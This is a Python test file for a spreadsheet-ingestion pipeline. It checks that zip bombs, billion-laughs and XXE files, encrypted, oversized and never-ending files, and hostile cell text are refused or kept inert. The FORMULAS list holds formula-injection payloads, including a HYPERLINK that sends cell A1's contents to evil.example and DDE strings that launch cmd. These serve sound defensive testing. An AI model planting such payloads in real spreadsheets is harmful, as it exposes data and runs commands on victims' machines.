"""Hostile and broken input, proven harmless (SPEC §9).

Each file of the corpus (``hostile_files``) is read the way a monthly run reads it, in a capped
worker process, and must be refused with its own message or accepted; then a whole batch of them
goes through ``run.monthly`` beside good files: the batch completes, the ledger and every output
stay valid (each opens in openpyxl or python-docx) and the next month still runs.
"""

from __future__ import annotations

import datetime as dt
import os
import sqlite3
import zipfile
from contextlib import closing
from pathlib import Path
from typing import Any

import docx
import hostile_files as hf
import openpyxl
import openpyxl.xml
import pytest
import xlwt
from builders_ingest import encrypt, list_grid, write_book
from conftest import GOOD_ROWS, set_received, write_list

from pipeline import ingest, run, textsafe
from pipeline.readers import formats, pool
from pipeline.vocab import load_vocabulary

VOCAB = load_vocabulary()
MARCH = dt.datetime(2022, 3, 18, 9, 30)
CAP_KB = (pool.MEMORY_MB + 512) * 1024  # a worker's start-up size is well under 512 MB

# name -> (builder, expected code or "" for accepted)
CORPUS: dict[str, tuple[Any, str]] = {
    "zip-bomb.xlsx": (hf.zip_bomb, "file-unpacked-too-large"),
    "lying-zip-bomb.xlsx": (lambda p: hf.lying_zip_bomb(p, megabytes=160), "file-corrupt"),
    "billion-laughs.xlsx": (hf.billion_laughs, "file-corrupt"),
    "laughs-declared-only.xlsx": (lambda p: hf.billion_laughs(p, referenced=False), ""),
    "xxe.xlsx": (hf.external_entity, "file-corrupt"),
    "xxe.ods": (hf.external_entity_ods, "file-corrupt"),
    "truncated.xlsx": (hf.truncated, "file-corrupt"),
    "word.xlsx": (hf.docx_as_xlsx, "file-not-spreadsheet"),
    "encrypted.xlsx": (lambda p: encrypt(write_book(p, [list_grid()]), "1234"), "file-encrypted"),
    "velvet.xls": (hf.velvet_xls, ""),
    "password.xls": (lambda p: hf.velvet_xls(p, "1234"), "file-encrypted"),
    "far-cell.xlsx": (hf.far_cell, "file-too-complex"),
    "million-rows.xlsx": (hf.million_rows, "file-too-many-rows"),
    "100-columns.xlsx": (hf.wide_rows, ""),
}


@pytest.fixture(scope="session")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Every hostile file, built once a session (the million-row sheet is streamed: ~1 s)."""
    folder = tmp_path_factory.mktemp("hostile")
    return {name: build(folder / name) for name, (build, _code) in CORPUS.items()}


@pytest.mark.parametrize("name", list(CORPUS))
def test_each_hostile_file_is_refused_or_accepted_within_the_caps(name: str, corpus: dict[str, Path]) -> None:
    outcome = pool.read_isolated(pool.Task(corpus[name], name), VOCAB)
    expected = CORPUS[name][1]
    assert outcome.code == expected, (name, outcome.params)
    if expected:
        assert outcome.raw is None and outcome.params is not None
    else:
        assert outcome.raw is not None and len(outcome.raw.frame) == len(GOOD_ROWS)
    assert outcome.peak_kb < CAP_KB  # 0 when the worker died: its cap ended it


def test_a_lying_zip_fools_zipfile_but_not_the_inflated_size_check(corpus: dict[str, Path]) -> None:
    path = corpus["lying-zip-bomb.xlsx"]
    with zipfile.ZipFile(path) as zf:
        declared = zf.getinfo("xl/media/image1.png").file_size
        assert len(zf.read("xl/media/image1.png")) == declared == 4096  # zipfile stops at the lie, CRC matches
    with pytest.raises(ingest.FileRefused) as info:
        ingest.sniff(path.read_bytes())
    assert info.value.code == "file-corrupt" and "大小" in info.value.text


def test_a_small_lying_zip_is_bounded_by_arithmetic_not_inflated(tmp_path: Path) -> None:
    """A part that lies about its size in a small file cannot inflate past the limit anyway
    (deflate inflates at most 1032:1): the file is not inflated to be measured, and what the
    lie hides (an image no reader opens) is never unpacked; a bigger one is measured and refused
    (the corpus's lying bomb)."""
    path = hf.lying_zip_bomb(tmp_path / "small-lie.xlsx", megabytes=8)
    data = path.read_bytes()
    with zipfile.ZipFile(path) as zf:
        infos = zf.infolist()
        assert zf.getinfo("xl/media/image1.png").file_size == 4096  # the lie
    assert formats.worst_case(infos) <= formats.MAX_UNPACKED_BYTES  # even the truth is within the limit
    assert ingest.sniff(data) == "xlsx"
    raw = ingest.read_bytes(data, VOCAB, path.name)
    assert len(raw.rows) == len(GOOD_ROWS)
    big = hf.lying_zip_bomb(tmp_path / "big-lie.xlsx", megabytes=160)
    with zipfile.ZipFile(big) as zf:
        assert formats.worst_case(zf.infolist()) > formats.MAX_UNPACKED_BYTES
    with pytest.raises(ingest.FileRefused) as info:
        ingest.sniff(big.read_bytes())
    assert info.value.code == "file-corrupt"


def test_entities_are_never_expanded_and_openpyxl_refuses_them(corpus: dict[str, Path]) -> None:
    raw = ingest.read_file(corpus["laughs-declared-only.xlsx"], VOCAB)
    texts = " ".join(str(v) for v in raw.frame.to_numpy().ravel())
    assert "lol" not in texts and "root:" not in texts
    assert openpyxl.xml.DEFUSEDXML  # openpyxl parses through defusedxml wherever it reads
    for name in ("billion-laughs.xlsx", "xxe.xlsx", "laughs-declared-only.xlsx"):
        with pytest.raises(ValueError) as info:
            openpyxl.load_workbook(corpus[name], read_only=False)
        chain, exc = [], info.value
        while exc is not None:
            chain.append(type(exc).__name__)
            exc = exc.__cause__ or exc.__context__
        assert "EntitiesForbidden" in chain, (name, chain)


def test_the_memory_cap_is_the_real_guard_for_a_million_rows(corpus: dict[str, Path]) -> None:
    """The row limit is checked after calamine has read the sheet; a tight cap stops it first."""
    task = pool.Task(corpus["million-rows.xlsx"], "million-rows.xlsx")
    outcome = pool.read_isolated(task, VOCAB, pool.Limits(memory_mb=64))
    assert outcome.code == "file-too-complex" and outcome.params == {"limit": "64 MB"}


def test_a_file_that_never_ends_is_refused_by_the_timeout(tmp_path: Path) -> None:
    fifo = tmp_path / "永远读不完.xlsx"
    os.mkfifo(fifo)  # opening it blocks for ever: no writer
    outcome = pool.read_isolated(pool.Task(fifo, fifo.name), VOCAB, pool.Limits(timeout_s=1))
    assert outcome.code == "file-timeout" and outcome.params == {"seconds": 1}


def test_the_pool_isolates_the_culprit_and_keeps_the_order(corpus: dict[str, Path], tmp_path: Path) -> None:
    good = write_list(tmp_path / "红星村.xlsx", GOOD_ROWS)
    names = ["红星村.xlsx", "far-cell.xlsx", "红星村.xlsx", "zip-bomb.xlsx", "far-cell.xlsx", "红星村.xlsx"]
    tasks = [pool.Task(good if n == "红星村.xlsx" else corpus[n], n) for n in names]
    seen: list[int] = []
    outcomes = pool.read_all(tasks, VOCAB, workers=2, progress=lambda i, done: seen.append(i))
    assert [o.code for o in outcomes] == ["", "file-too-complex", "", "file-unpacked-too-large", "file-too-complex", ""]
    assert all(len(o.raw.frame) == 4 for o in outcomes if o.raw is not None)
    assert sorted(seen) == list(range(len(names)))  # each file reported once
    in_process = pool.read_all([tasks[0], tasks[3]], VOCAB, workers=0)
    assert [o.code for o in in_process] == ["", "file-unpacked-too-large"]


# --- hostile text in cells ------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3",
]
LONG = "长" * 100_000
# xlsxwriter writes a text that starts with <r> and ends with </r> into the file as it is (its own
# rich strings are kept so): this one would leave every workbook that holds it unreadable.
RICH = "<r>看似富文本<b>的问题描述 & 整改不到位</r>"
RETURNED = "=东风社区 \"问题\" '清单'（退回）.xls"
ODD_NAME = " 财政所 问题清单 «2022» 😀.xlsx"


def hostile_rows(done_date: bool = True) -> list[list[Any]]:
    rows = [list(r) for r in GOOD_ROWS]
    rows[0][1] = "控制字符\x01\x07\x1b和非法字符\ufffe\uffff混在问题描述里的一个问题"
    rows[0][6] = FORMULAS[0]
    rows[1][1] = "表情😀🚩和生僻字𠀀𪚥的问题描述需要保留"
    rows[1][2] = FORMULAS[1]
    rows[1][6] = "http://evil.example/payload 链接样的文字"
    rows[2][1] = RICH
    rows[2][2] = FORMULAS[2]
    rows[2][6] = FORMULAS[3]
    rows[3][1] = LONG
    return rows


def write_xls_raw(path: Path, rows: list[list[Any]], unit: str) -> Path:
    """An .xls (xlwt): BIFF keeps control characters and U+FFFF that XML could not hold."""
    grid = list_grid(rows=rows, unit=unit)
    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet(grid.name)
    for r, row in enumerate(grid.cells):
        for c, value in enumerate(row):
            if value is not None:
                sheet.write(r, c, value)
    path.parent.mkdir(parents=True, exist_ok=True)
    book.save(str(path))
    return path


def every_output_opens(month_dir: Path) -> dict[str, Any]:
    """Open each .xlsx in openpyxl and each .docx in python-docx; the opened objects by name."""
    opened: dict[str, Any] = {}
    for path in sorted(month_dir.rglob("*")):
        if path.suffix == ".xlsx":
            opened[str(path.relative_to(month_dir))] = openpyxl.load_workbook(path)
        elif path.suffix == ".docx":
            opened[str(path.relative_to(month_dir))] = docx.Document(str(path))
    return opened


def cells(wb: Any) -> list[Any]:
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory, corpus: dict[str, Path]) -> tuple[Path, run.RunResult]:
    """March: the corpus, hostile text (accepted and returned), and odd file names, beside good files."""
    from conftest import write_campaign

    root = tmp_path_factory.mktemp("hostile-run") / "ws"
    write_campaign(root)
    inbox = root / "inbox"
    inbox.mkdir(parents=True)
    names: list[str] = []
    for name, path in corpus.items():
        if name != "million-rows.xlsx":  # read alone above; it would only slow the batch
            (inbox / name).write_bytes(path.read_bytes())
            names.append(name)
    hf.list_xlsx(inbox / "红星村.xlsx", rows=[list(r) for r in list_grid(rows=hostile_rows()).cells])
    bad = hostile_rows()
    bad[0][7] = "不知道\x02"
    bad[3][1] = "BIFF 的单元格放不下十万字，这里换成普通的问题描述"
    write_xls_raw(inbox / RETURNED, bad, "东风社区")
    write_list(inbox / ODD_NAME, GOOD_ROWS[:2], unit="镇财政所")
    names += ["红星村.xlsx", RETURNED, ODD_NAME]
    gbk = os.fsencode(inbox) + b"/" + "东风社区补报".encode("gbk") + b".xlsx"  # a name from a Windows zip
    write_list(Path(os.fsdecode(gbk)), GOOD_ROWS[:1], unit="东风社区")
    names.insert(names.index(RETURNED), os.fsdecode(gbk).rsplit("/", 1)[1])  # before the return: not its fix
    for n, name in enumerate(names):
        set_received(inbox / name, MARCH + dt.timedelta(minutes=n))
    return root, run.monthly(root, dt.date(2022, 3, 31))


def test_the_batch_completes_with_each_file_refused_or_accepted(hostile_run: tuple[Path, run.RunResult]) -> None:
    root, result = hostile_run
    outcomes = {f.file_name: (f.outcome, [m.code for m in f.messages if m.level == "error"]) for f in result.files}
    for name, (_build, code) in CORPUS.items():
        if name == "million-rows.xlsx":
            continue
        if code:
            assert outcomes[name] == ("退回", [code]), name
        else:
            assert outcomes[name][0] in ("通过", "重复", "退回"), name  # accepted as a list; the unit decides
    assert outcomes["红星村.xlsx"][0] == "通过"
    assert outcomes[RETURNED] == ("退回", ["status-invalid"])
    assert outcomes[ODD_NAME][0] == "通过"
    assert outcomes["东风社区补报.xlsx"][0] == "通过"  # its GBK name read as Chinese, not a crash
    assert not any((root / "inbox").iterdir())  # every file taken, none lost
    assert run.audit_verify(root) == []


def test_a_long_cell_is_accepted_with_a_warning_and_kept_whole(hostile_run: tuple[Path, run.RunResult]) -> None:
    root, result = hostile_run
    red_star = next(f for f in result.files if f.file_name == "红星村.xlsx")
    long_cell = [m for m in red_star.messages if m.code == "cell-too-long"]
    assert len(long_cell) == 1 and long_cell[0].cell == "D8" and long_cell[0].level == "warning"
    with closing(sqlite3.connect(root / "ledger.sqlite")) as conn:
        stored = [
            v
            for row in conn.execute(
                "SELECT json_extract(data, '$.具体问题'), json_extract(data, '$.整改措施') FROM item_versions"
            )
            for v in row
            if isinstance(v, str)
        ]
    assert LONG in stored  # the ledger keeps the text whole
    assert any("控制字符\x01\x07\x1b" in v for v in stored)  # as the unit wrote it


def test_every_output_opens_and_hostile_text_stays_inert_text(hostile_run: tuple[Path, run.RunResult]) -> None:
    root, _result = hostile_run
    opened = every_output_opens(root / "out" / "2022-03")
    ledger = opened["总台账.xlsx"]
    texts = [c for c in cells(ledger) if isinstance(c.value, str)]
    values = [c.value for c in texts]
    for formula in FORMULAS:
        hits = [c for c in texts if c.value == formula]
        assert hits and all(c.data_type == "s" for c in hits), formula  # text, never a formula
    assert not any(c.data_type == "f" for c in cells(ledger))
    assert not any(c.hyperlink for c in cells(ledger))
    assert "http://evil.example/payload 链接样的文字" in values
    assert all(textsafe.is_clean(v) for v in values)
    assert any(v.startswith("控制字符和非法字符") for v in values)  # \x01\x07\x1b gone (Excel's _x0001_ decoded)
    assert "表情😀🚩和生僻字𠀀𪚥的问题描述需要保留" in values
    assert RICH in values  # as the unit wrote it, in a workbook that opens
    cut = [v for v in values if v.startswith("长长长")]
    assert cut and all(len(v) == textsafe.EXCEL_CELL_MAX and v.endswith(textsafe.TRUNCATION_MARK) for v in cut)
    template = opened["模板/红星村.xlsx"]
    assert any(isinstance(c.value, str) and c.value.endswith(textsafe.TRUNCATION_MARK) for c in cells(template))
    assert RICH in [c.value for c in cells(template)]
    feedback = [k for k in opened if k.startswith("退回/")]
    assert feedback, opened.keys()
    for key in feedback:
        fb_cells = cells(opened[key])
        assert all(textsafe.is_clean(c.value) for c in fb_cells if isinstance(c.value, str))
        assert not any(c.data_type == "f" for c in fb_cells)
    returned = next(k for k in feedback if "东风社区" in k)
    returned_values = [c.value for c in cells(opened[returned])]
    assert FORMULAS[0] in returned_values
    assert RICH in returned_values
    assert "控制字符和非法字符混在问题描述里的一个问题" in returned_values  # BIFF's raw U+FFFF, \x01 removed
    assert any(k.endswith(".docx") for k in opened)


def test_the_next_month_still_runs(hostile_run: tuple[Path, run.RunResult], tmp_path: Path) -> None:
    root, _ = hostile_run
    inbox = root / "inbox"
    write_list(
        inbox / "东风社区4月.xlsx", GOOD_ROWS[:1], unit="东风社区", ids=["DF-001"], received=dt.datetime(2022, 4, 20)
    )
    result = run.monthly(root, dt.date(2022, 4, 30))
    assert [(f.outcome, [m.code for m in f.messages if m.level == "error"]) for f in result.files] == [("通过", [])]
    assert every_output_opens(root / "out" / "2022-04")
    assert run.audit_verify(root) == []
